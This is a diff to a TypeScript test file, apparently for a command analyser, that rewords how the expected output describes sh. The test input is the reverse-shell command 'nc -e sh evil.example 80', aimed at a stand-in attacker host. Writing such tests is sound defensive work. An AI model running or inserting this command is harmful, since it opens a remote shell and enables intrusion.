@@ -211,8 +211,8 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "nc -e sh evil.example 80",
     [
       "network: nc -e sh evil.example 80 (nc -e runs a command; connects to evil.example; connects to 80; network <evil.example>; network <80>)",
-      "execute: sh [nc -e] (sh runs the commands it is given as input)",
-      "not understood: sh runs the commands it is given as input: sh",
+      "execute: sh [nc -e] (sh runs the commands in its input)",
+      "not understood: sh runs the commands in its input: sh",
     ],
   ],
   [
